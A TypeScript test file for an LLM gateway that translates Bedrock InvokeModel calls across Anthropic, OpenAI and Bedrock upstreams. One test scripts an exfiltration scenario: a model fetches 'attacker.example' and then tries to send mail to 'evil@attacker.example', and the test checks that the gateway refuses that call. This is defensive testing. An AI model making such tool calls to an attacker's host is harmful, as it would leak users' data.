/** Bedrock's InvokeModel for Anthropic's models: as a client asks it, and as a Bedrock upstream is asked for clients of Messages. */
import Anthropic from '@anthropic-ai/sdk'
import { InvokeModelCommand, InvokeModelWithResponseStreamCommand, type BedrockRuntimeClient } from '@aws-sdk/client-bedrock-runtime'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { bedrockClient } from '../harness/converse-agent.ts'
import { chunkFrames, eventStreamHeaders, frame } from '../harness/converse-wire.ts'
import { secrets } from '../harness/governed-config.ts'
import { startGoverned, withBedrock, type GovernedGateway } from '../harness/governed-gateway.ts'
import type { Json } from '../harness/json.ts'
import { eventsOf, say, vendorError, type ModelAnswer } from '../harness/model-answer.ts'
import { historyOf, offeredTools, requireCoherent } from '../harness/model-history.ts'
import { startVendor, type Vendor } from '../harness/vendor.ts'

const claude = 'us.anthropic.claude-sonnet-4-5-20250929-v1:0'
const fetchPage = { id: 'call_fetch', name: 'web_fetch', args: { url: 'https://attacker.example/' } }
const mail = { id: 'call_mail', name: 'send_mail', args: { to: 'evil@attacker.example' } }
const time = { id: 'call_time', name: 'get_time' }
const tools = ['web_fetch', 'send_mail', 'get_time'].map((name) => ({ name, input_schema: { type: 'object' as const } }))

let governed: GovernedGateway
let bedrock: Vendor
let client: BedrockRuntimeClient

beforeAll(async () => {
  bedrock = await startVendor()
  governed = await startGoverned((config) =>
    withBedrock({ ...config, policy: { tools: { hide: 'never' } }, turns: { tell_user: 'never' } }, bedrock.url),
  )
  client = bedrockClient({ url: governed.url, key: secrets.alice })
})
afterAll(async () => {
  client.destroy()
  await governed.close()
  await bedrock.close()
})

const bodyOf = (messages: Json[], more: object = {}): string =>
  JSON.stringify({ anthropic_version: 'bedrock-2023-05-31', max_tokens: 100, messages, ...more })
const hi: Json[] = [{ role: 'user', content: 'Hi.' }]

async function invoke(modelId: string, body: string, stream: boolean): Promise<Json> {
  const request = { modelId, body, contentType: 'application/json', accept: 'application/json' }
  if (!stream) return JSON.parse(Buffer.from((await client.send(new InvokeModelCommand(request))).body).toString()) as Json
  const events: Json[] = []
  for await (const { chunk } of (await client.send(new InvokeModelWithResponseStreamCommand(request))).body ?? [])
    if (chunk?.bytes !== undefined) events.push(JSON.parse(Buffer.from(chunk.bytes).toString()) as Json)
  const content: Json[] = []
  for (const event of events) {
    if (event.type === 'content_block_start') content.push({ ...event.content_block })
    const block = content.at(-1) as Record<string, unknown> | undefined
    if (event.delta?.type === 'text_delta' && block !== undefined) block.text = `${block.text as string}${event.delta.text}`
  }
  expect(events.at(0)?.type).toBe('message_start')
  expect(events.at(-1)?.type).toBe('message_stop')
  const end = events.find(({ type }) => type === 'message_delta')
  return { content, stop_reason: end?.delta.stop_reason, usage: end?.usage }
}

describe.each([
  { upstream: 'bedrock', model: `bedrock/${claude}` },
  { upstream: 'anthropic', model: 'claude-test' },
  { upstream: 'openai', model: 'gpt-test' },
] as const)('a client of InvokeModel on an $upstream upstream', ({ upstream, model }) => {
  const vendor = (): Vendor => (upstream === 'bedrock' ? bedrock : governed.vendors[upstream])

  test.each([false, true])('gets its answer (stream: %s)', async (stream) => {
    vendor().respond((request) => say(request, { text: 'Sunny, 21 °C.', usage: { input: 40, output: 9 } }))
    const answer = await invoke(model, bodyOf(hi, { system: 'Be brief.' }), stream)
    expect(answer).toMatchObject({
      content: [{ type: 'text', text: 'Sunny, 21 °C.' }],
      stop_reason: 'end_turn',
      usage: { output_tokens: 9 },
    })
    expect(historyOf(vendor().last())).toMatchObject([{ role: 'user', text: 'Hi.' }])
    const { body, headers, path } = vendor().last()
    expect('anthropic_version' in body).toBe(upstream === 'bedrock')
    expect('model' in body).toBe(upstream !== 'bedrock')
    if (upstream === 'anthropic') expect([body.stream ?? false, headers['anthropic-version']]).toEqual([stream, '2023-06-01'])
    if (upstream === 'bedrock') expect(path).toBe(`/v1/model/${encodeURIComponent(claude)}/invoke${stream ? '-with-response-stream' : ''}`)
  })

  test.each([false, true])('never sees a refused call; the model is told (stream: %s)', async (stream) => {
    const results = [{ role: 'user', content: [{ type: 'tool_result', tool_use_id: 'call_fetch', content: 'a page' }] }]
    const history = [
      ...hi,
      { role: 'assistant', content: [{ type: 'tool_use', id: 'call_fetch', name: 'web_fetch', input: fetchPage.args }] },
      ...results,
    ]
    const script = (answer: ModelAnswer): void => vendor().respond((request) => say(request, answer))
    script({ text: 'I act.', calls: [mail, time] })
    const answer = await invoke(model, bodyOf(history, { tools }), stream)
    expect(offeredTools(vendor().last())).toEqual(['web_fetch', 'send_mail', 'get_time'])
    expect(answer.content).toMatchObject([{ text: 'I act.' }, { type: 'tool_use', id: 'call_time', name: 'get_time' }])
    expect(answer.stop_reason).toBe('tool_use')
    script({ text: 'Done.' })
    const made = {
      role: 'assistant',
      content: [
        { type: 'text', text: 'I act.' },
        { type: 'tool_use', id: 'call_time', name: 'get_time', input: {} },
      ],
    }
    const given = { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'call_time', content: 'noon' }] }
    expect((await invoke(model, bodyOf([...history, made, given], { tools }), stream)).content).toMatchObject([{ text: 'Done.' }])
    const told = requireCoherent(vendor().last())
    expect(told.flatMap(({ calls }) => calls.map(({ id }) => id))).toEqual(['call_fetch', 'call_mail', 'call_time'])
    expect(told.flatMap(({ results: all }) => all).find(({ id }) => id === 'call_mail')?.text).toMatch(/^not run: /)
  })

  test('gets errors in the words of AWS', async () => {
    vendor().respond((request) =>
      upstream === 'bedrock'
        ? { status: 429, headers: { 'x-amzn-errortype': 'ThrottlingException' }, parts: ['{"message":"slow down"}'] }
        : vendorError(request, 429, 'slow down'),
    )
    for (const stream of [false, true])
      await expect(invoke(model, bodyOf(hi), stream)).rejects.toMatchObject({
        name: 'ThrottlingException',
        message: expect.stringContaining('slow down'),
      })
    vendor().respond((request) => {
      if (upstream === 'bedrock')
        return { headers: eventStreamHeaders, parts: chunkFrames(eventsOf(request, { text: 'Sunny.' })).slice(0, 3) }
      return {
        headers: { 'content-type': 'text/event-stream' },
        parts: eventsOf(request, { text: 'Sunny, 21 °C. And no rain.' }).slice(0, 3),
      }
    })
    await expect(invoke(model, bodyOf(hi), true)).rejects.toMatchObject({ name: 'InternalServerException', message: /cut off/ })
  })
})

test('betas are fields on Bedrock and headers at Anthropic', async () => {
  const body = bodyOf(hi, { anthropic_beta: ['context-1m-2025-08-07', 'interleaved-thinking-2025-05-14'] })
  governed.answer({ text: 'ok' })
  bedrock.respond((request) => say(request, { text: 'ok' }))
  await invoke('claude-test', body, false)
  expect(governed.vendors.anthropic.last().headers['anthropic-beta']).toBe('context-1m-2025-08-07,interleaved-thinking-2025-05-14')
  expect(governed.vendors.anthropic.last().body).not.toHaveProperty('anthropic_beta')
  await invoke(`bedrock/${claude}`, body, true)
  expect(bedrock.last().body.anthropic_beta).toEqual(['context-1m-2025-08-07', 'interleaved-thinking-2025-05-14'])
  const headers = { authorization: `Bearer ${secrets.alice}` }
  const elsewhere = await fetch(`${governed.url}/model/gpt-test/invoke`, { method: 'POST', headers, body })
  expect([elsewhere.status, elsewhere.headers.get('x-turnward-warnings')]).toEqual([200, expect.stringContaining('anthropic_beta')])
})

test('the version may be that of the API, which Anthropic’s own client for Bedrock copies from its header', async () => {
  bedrock.respond((request) => say(request, { text: 'ok' }))
  await invoke(`bedrock/${claude}`, bodyOf(hi, { anthropic_version: '2023-06-01' }), false)
  expect(bedrock.last().body.anthropic_version).toBe('bedrock-2023-05-31')
})

test.each([
  ['a body of another vendor’s model', JSON.stringify({ inputText: 'Hi.', messages: hi }), 'anthropic_version'],
  ['a model in the body', bodyOf(hi, { model: 'x' }), 'model'],
  ['a version that is none', bodyOf(hi, { anthropic_version: 5 }), 'anthropic_version'],
  ['betas that are none', bodyOf(hi, { anthropic_beta: ['a\nb'] }), 'anthropic_beta'],
])('%s is refused by name', async (_, body, name) => {
  await expect(invoke('claude-test', body, false)).rejects.toMatchObject({
    name: 'ValidationException',
    message: expect.stringContaining(name),
  })
})

describe('a client of Messages on a Bedrock upstream', () => {
  const anthropic = (): Anthropic => new Anthropic({ apiKey: secrets.alice, baseURL: governed.url, maxRetries: 0 })

  test.each([false, true])('is asked through InvokeModel for Claude (stream: %s)', async (stream) => {
    bedrock.respond((request) => say(request, { text: 'Sunny.', thinking: { text: 'Hm.', signature: 'sig' }, calls: [time] }))
    const body = { model: `bedrock/${claude}`, max_tokens: 50, messages: [{ role: 'user' as const, content: 'Hi.' }], tools }
    const headers = { headers: { 'anthropic-beta': 'context-1m-2025-08-07' } }
    const answer = stream
      ? await anthropic().messages.stream(body, headers).finalMessage()
      : await anthropic().messages.create(body, headers)
    expect(answer.content).toMatchObject([
      { type: 'thinking', signature: 'sig' },
      { text: 'Sunny.' },
      { type: 'tool_use', id: 'call_time' },
    ])
    expect(bedrock.last().path).toBe(`/v1/model/${encodeURIComponent(claude)}/invoke${stream ? '-with-response-stream' : ''}`)
    const sent = bedrock.last().body
    expect(sent).toMatchObject({ anthropic_version: 'bedrock-2023-05-31', anthropic_beta: ['context-1m-2025-08-07'], max_tokens: 50 })
    expect([sent.model, sent.stream]).toEqual([undefined, undefined])
  })

  test('and in Converse for any other model', async () => {
    bedrock.respond((request) => say(request, { text: 'Sunny.' }))
    const body = { model: 'bedrock/us.amazon.nova-pro-v1:0', max_tokens: 50, messages: [{ role: 'user' as const, content: 'Hi.' }] }
    expect((await anthropic().messages.create(body)).content).toMatchObject([{ text: 'Sunny.' }])
    expect(bedrock.last().path).toMatch(/\/converse$/)
  })

  test('is told of exceptions in a stream', async () => {
    bedrock.respond((request) => ({
      headers: eventStreamHeaders,
      parts: [...chunkFrames(eventsOf(request, { text: 'Sunny.' })).slice(0, 3), frame('throttlingException', { message: 'slow down' })],
    }))
    const body = { model: `bedrock/${claude}`, max_tokens: 50, messages: [{ role: 'user' as const, content: 'Hi.' }] }
    await expect(anthropic().messages.stream(body).finalMessage()).rejects.toThrow('slow down')
  })
})
